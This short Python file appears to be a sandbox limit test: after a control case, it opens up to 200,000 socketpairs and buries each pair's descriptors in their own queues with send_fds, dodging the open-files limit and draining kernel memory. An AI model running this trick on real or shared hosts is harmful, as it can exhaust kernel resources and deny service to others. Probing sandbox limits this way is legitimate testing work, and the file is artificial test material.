"""Buries socketpairs in each other's queues, where no count of open files sees them.

Escape: more sockets than open_files several times over, or memory of the kernel beyond bounds
Control: one descriptor can be in flight
Limits: open_files=64, wall_s=5
"""

# control
import socket

one, two = socket.socketpair()
socket.send_fds(one, [b"x"], [two.fileno()])
True

# attack
buried = 0
why = ""
try:
    for _ in range(200_000):
        a, b = socket.socketpair()
        socket.send_fds(a, [b"x"], [a.fileno(), b.fileno()])
        a.close()
        b.close()
        buried += 2
except OSError as error:
    why = error.strerror
"ESCAPED: no end to it" if buried >= 400_000 else [buried, why]
